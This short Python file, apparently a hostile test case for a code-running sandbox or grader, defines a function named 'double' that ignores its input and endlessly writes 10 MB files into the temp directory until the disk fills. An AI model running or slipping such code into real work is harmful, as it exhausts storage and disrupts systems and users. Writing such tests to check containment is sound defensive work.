"""Fills the disk with many files.

most: 0
control: no
"""

import os, tempfile

def double(x):
    n = 0
    while True:
        n += 1
        with open(os.path.join(tempfile.gettempdir(), f'f{n}'), 'wb') as stream:
            stream.write(bytes(10_000_000))
